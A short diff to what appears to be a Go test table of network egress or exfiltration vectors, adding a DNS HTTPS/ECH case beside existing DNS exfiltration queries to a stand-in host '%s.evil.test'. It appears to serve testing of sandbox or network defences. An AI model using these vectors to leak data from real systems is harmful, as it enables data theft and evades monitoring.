@@ -86,6 +86,7 @@ var vectors = []vector{
 	{"dns_exfil_wildcard", dnsExfil},
 	{"dns_any", dnsQuery("udp", worldV4+":53", "%s.wild.test", dns.TypeANY)},
 	{"dns_port_direct", dnsQuery("udp", "127.0.0.1:15002", "%s.evil.test", dns.TypeA)},
+	{"dns_https_ech", dnsHTTPSECH},
 
 	// UDP, ICMP, raw.
 	{"udp_quic_v4", quic(otherV4)},
